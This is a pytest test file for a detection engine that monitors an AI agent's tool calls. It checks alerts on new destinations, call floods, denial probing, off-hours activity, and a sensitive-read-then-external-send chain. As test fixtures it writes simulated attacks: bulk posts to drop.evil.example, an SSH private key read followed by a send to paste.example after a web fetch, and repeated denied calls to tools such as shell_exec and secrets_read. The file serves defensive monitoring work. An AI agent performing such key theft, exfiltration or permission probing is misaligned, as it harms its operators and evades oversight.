"""The detectors over streams whose times the test controls: each fires on the behaviour it
names, says why with the numbers, stays quiet on the agent's normal traffic, and learns
from a false-positive verdict. No database needed."""

from __future__ import annotations

import dataclasses
import json
from datetime import UTC, datetime, timedelta

import pytest

from controlplane.detection.engine import AgentProfile, EngineSettings, observation_of
from controlplane.detection.engine.features import bytes_out_of, destinations_of, marks_sensitive

MONDAY = datetime(2026, 3, 2, tzinfo=UTC)
SETTINGS = EngineSettings(warmup_hours=24, warmup_calls=100)


def call(t, tool="ticket_read", args=None, session="s1", n=[0]):
    n[0] += 1
    return observation_of(agent="a", kind="intent", payload={"tool": tool, "args": args or {}}, tool=tool, time=t,
                          session_id=session, record_id=f"r{n[0]}", event_id=n[0])


def decision(t, effect, tool="ticket_read", session="s1"):
    return observation_of(agent="a", kind="decision", payload={"effect": effect, "reasons": []}, tool=tool, time=t,
                          session_id=session, record_id="d", event_id=None)


def trained(days: int = 7, per_hour: int = 10, hours=range(9, 17)) -> AgentProfile:
    """Office hours, a steady mix of reads and e-mails to two domains, a few denials."""
    profile = AgentProfile("support-bot", None, SETTINGS)
    for day in range(days):
        for hour in hours:
            for i in range(per_hour):
                t = MONDAY + timedelta(days=day, hours=hour, minutes=i * 5)
                session = f"d{day}h{hour}"
                assert profile.observe(call(t, "ticket_read", {"ticket": i, "table": "tickets"}, session)) == []
                profile.observe(decision(t, "deny" if i == 0 and hour == 9 else "allow", session=session))
                to = "a@customer.example" if i % 2 else "b@gmail.com"
                assert profile.observe(call(t, "send_email", {"to": to, "body": "hello"}, session)) == []
    return profile


def findings(profile, observations):
    found = []
    for obs in observations:
        found.extend(profile.observe(obs))
    return found


def test_normal_traffic_after_warmup_raises_nothing():
    profile = trained()
    assert not profile.learning
    day = MONDAY + timedelta(days=8, hours=10)
    quiet = findings(profile, [call(day + timedelta(minutes=i), "ticket_read", {"ticket": i}) for i in range(10)])
    assert quiet == []


def test_bulk_calls_to_a_never_seen_domain_escalate_from_medium_to_critical():
    profile = trained()
    start = MONDAY + timedelta(days=8, hours=10)
    found = findings(profile, [
        call(start + timedelta(seconds=10 * i), "http_request", {"url": "https://drop.evil.example/u", "body": "x" * 100})
        for i in range(25)
    ])
    new_destination = [f for f in found if f.detector == "new_destination"]
    assert [f.severity for f in new_destination] == ["medium", "critical"]
    critical = new_destination[-1]
    assert critical.subject == "host:drop.evil.example"
    assert critical.observed["calls"] == 20
    assert "20 calls" in critical.summary and "host:drop.evil.example" in critical.summary
    assert "not among the 2 it used" in critical.summary
    assert len(critical.records) == 20 and critical.sessions == ["s1"]


def test_a_quiet_new_destination_becomes_normal_after_its_window():
    profile = trained()
    start = MONDAY + timedelta(days=8, hours=10)
    assert findings(profile, [call(start, "send_email", {"to": "x@newcustomer.example"})]) == []
    later = start + timedelta(hours=2)
    assert findings(profile, [call(later + timedelta(seconds=i), "send_email", {"to": "y@newcustomer.example"})
                              for i in range(5)]) == []
    assert "email:newcustomer.example" in profile.state["destinations"]


def test_runaway_loop_alert_states_the_threshold_and_the_baseline_it_came_from():
    profile = trained()
    start = MONDAY + timedelta(days=8, hours=10)
    found = findings(profile, [call(start + timedelta(seconds=2 * i), "ticket_read", {"ticket": 1}) for i in range(200)])
    (rate,) = [f for f in found if f.detector == "call_rate" and f.severity == "high"]
    assert rate.subject == "ticket_read"
    assert rate.baseline["median"] == 10 and rate.baseline["hours"] == 56
    assert rate.observed["calls"] == rate.baseline["threshold"] >= 30
    assert f"called ticket_read {rate.observed['calls']} times" in rate.summary
    assert "median 10/h" in rate.summary and "over 56 active hours" in rate.summary


def test_an_hour_that_alerted_does_not_raise_the_bar_for_the_next_attack():
    profile = trained()
    for day in (8, 9):
        start = MONDAY + timedelta(days=day, hours=10)
        found = findings(profile, [call(start + timedelta(seconds=2 * i), "ticket_read", {"ticket": 1})
                                   for i in range(200)])
        assert any(f.detector == "call_rate" for f in found), f"day {day}: the second loop must alert too"


def test_denial_probing_gives_the_odds_against_the_baseline_ratio():
    profile = trained()
    start = MONDAY + timedelta(days=8, hours=11)
    stream = []
    for i, tool in enumerate(["user_delete", "iam_grant", "shell_exec", "db_drop", "secrets_read", "user_delete"]):
        t = start + timedelta(minutes=i)
        stream += [call(t, tool, {}), decision(t, "deny", tool=tool)]
    found = [f for f in findings(profile, stream) if f.detector == "denial_probing"]
    assert len(found) == 1
    probe = found[0]
    assert probe.observed["denied"] == 5 and probe.observed["decided"] == 5
    assert probe.baseline["tail_probability"] < 1e-6
    assert "5 of 5 decisions denied" in probe.summary and "baseline denial ratio is 1.2%" in probe.summary


def test_bulk_reads_at_an_hour_the_agent_never_works_are_off_hours():
    profile = trained()
    night = MONDAY + timedelta(days=8, hours=3)
    found = findings(profile, [call(night + timedelta(seconds=30 * i), "ticket_read", {"ticket": i}) for i in range(25)])
    (off,) = [f for f in found if f.detector == "off_hours"]
    assert off.subject == "hour:03"
    assert off.observed["reads"] == 20 and off.baseline["hour_share"] == 0.0
    assert "0.00% of its 1,120 past calls" in off.summary


def test_sensitive_read_then_external_send_in_one_session_is_a_chain():
    profile = trained()
    t = MONDAY + timedelta(days=8, hours=10)
    found = findings(profile, [
        call(t, "web_fetch", {"url": "https://docs.example/page"}, "inj"),
        call(t + timedelta(seconds=3), "file_read", {"path": "/home/agent/.ssh/id_rsa"}, "inj"),
        call(t + timedelta(seconds=6), "http_request", {"url": "https://paste.example/new", "body": "key"}, "inj"),
    ])
    (chain,) = [f for f in found if f.detector == "sensitive_then_external"]
    assert chain.severity == "critical" and chain.subject == "file_read>http_request"
    assert chain.sessions == ["inj"] and len(chain.records) == 2
    assert "3 s later" in chain.summary


def test_the_same_sequence_in_another_session_later_than_the_window_is_not_a_chain():
    profile = trained()
    t = MONDAY + timedelta(days=8, hours=10)
    found = findings(profile, [
        call(t, "file_read", {"path": "/home/agent/.ssh/id_rsa"}, "one"),
        call(t + timedelta(seconds=3), "http_request", {"url": "https://paste.example/new"}, "two"),
        call(t + timedelta(minutes=20), "http_request", {"url": "https://paste.example/new"}, "one"),
    ])
    assert not [f for f in found if f.detector == "sensitive_then_external"]


@pytest.mark.parametrize("detector", ["new_destination", "call_rate", "off_hours", "sensitive_then_external",
                                      "denial_probing"])
def test_a_false_positive_verdict_makes_the_behaviour_normal(detector):
    profile = trained()
    t = MONDAY + timedelta(days=8, hours=10)
    if detector == "new_destination":
        stream = [call(t + timedelta(seconds=i), "http_request", {"url": "https://partner.example/x"}) for i in range(5)]
    elif detector == "call_rate":
        stream = [call(t + timedelta(seconds=2 * i), "ticket_read", {"ticket": 1}) for i in range(100)]
    elif detector == "off_hours":
        t = MONDAY + timedelta(days=8, hours=3)
        stream = [call(t + timedelta(seconds=30 * i), "ticket_read", {"ticket": i}) for i in range(25)]
    elif detector == "sensitive_then_external":
        stream = [call(t, "file_read", {"path": "/etc/secrets"}, "x"), call(t, "http_request",
                                                                            {"url": "https://api.bank.example/"}, "x")]
    else:
        stream = [o for i in range(8) for o in (call(t + timedelta(minutes=i), "iam_grant", {}),
                                                 decision(t + timedelta(minutes=i), "deny", tool="iam_grant"))]
    first = [f for f in findings(profile, stream) if f.detector == detector]
    assert first, "the behaviour must alert before the verdict"
    profile.accept(detector, first[-1].subject, first[-1].observed)
    # The same behaviour, one day later (same hour of day).
    again = [dataclasses.replace(o, time=o.time + timedelta(days=1)) for o in stream]
    assert [f for f in findings(profile, again) if f.detector == detector] == []


def test_state_survives_a_json_round_trip_and_keeps_judging():
    profile = trained()
    stored = json.loads(json.dumps(profile.state))
    restored = AgentProfile("support-bot", stored, SETTINGS)
    start = MONDAY + timedelta(days=8, hours=10)
    found = findings(restored, [call(start + timedelta(seconds=i), "http_request", {"url": "https://new.example/"})
                                for i in range(3)])
    assert [f.detector for f in found if f.detector == "new_destination"] == ["new_destination"]


def test_an_unknown_state_version_starts_a_fresh_baseline():
    assert AgentProfile("x", {"version": 999, "calls": "junk"}).state["calls"] == 0


# -- hostile payloads --------------------------------------------------------------------------


@pytest.mark.parametrize("payload", [
    None, [], "string", 5, {"tool": 5, "args": "nope"}, {"tool": "", "args": []}, {"tool": "x" * 10_000},
    {"tool": "t", "args": {"url": 7, "to": ["a@b.example", 3, None], "body": {"deep": [[[["x"]]]]}}},
])
def test_any_payload_shape_gives_an_observation_or_none_never_an_error(payload):
    obs = observation_of(agent="a", kind="intent", payload=payload, tool="fallback", time=MONDAY, session_id="s",
                         record_id="r")
    assert obs is None or (isinstance(obs.tool, str) and len(obs.tool) <= 200)


def test_destinations_ignore_garbage_and_normalise_hosts():
    args = {
        "url": "HTTPS://Exfil.Example.:8443/path?q=1", "to": ["eve@Evil.Example", "not-an-address", "eve@\x00nul.example"],
        "host": "bad host with spaces", "repository": "Acme/Secrets", "uri": "http://[::1", 42: "non-string key",
        "webhook": "\ud800.example",
    }
    assert destinations_of(args) == ["host:exfil.example", "email:evil.example", "repo:acme/secrets"]


def test_sizes_count_utf8_bytes_with_lone_surrogates_and_refuse_fake_sizes():
    assert bytes_out_of({"body": "é" * 10, "bytes": 5}) == 25
    assert bytes_out_of({"body": "\ud800"}) == 3
    assert bytes_out_of({"bytes": True, "size": -5, "content_length": 1 << 50, "data": ["ab", {"x": "cd"}]}) == 4


def test_deeply_nested_and_huge_arguments_are_walked_within_bounds():
    deep: dict = {}
    cursor = deep
    for _ in range(5000):
        cursor["x"] = {}
        cursor = cursor["x"]
    cursor["path"] = "/root/.ssh/id_rsa"
    assert marks_sensitive(deep) is False  # below the depth bound: not read, never a RecursionError
    assert marks_sensitive({"items": ["x"] * 100_000 + ["secret"]}) is False  # past the item budget
    assert marks_sensitive({"path": "/home/a/.ssh/id_rsa"}) is True
    assert bytes_out_of({"body": deep}) == 0


def test_known_destinations_are_bounded_oldest_forgotten_first(monkeypatch):
    from controlplane.detection.engine import profile as profile_module

    monkeypatch.setattr(profile_module, "MAX_KNOWN_DESTINATIONS", 50)
    profile = AgentProfile("crawler", None, EngineSettings(warmup_hours=1000, warmup_calls=10**6))
    for i in range(120):
        profile.observe(call(MONDAY + timedelta(seconds=i), "web_fetch", {"url": f"https://site{i}.example/"}))
    known = profile.state["destinations"]
    assert len(known) == 50 and "host:site119.example" in known and "host:site0.example" not in known
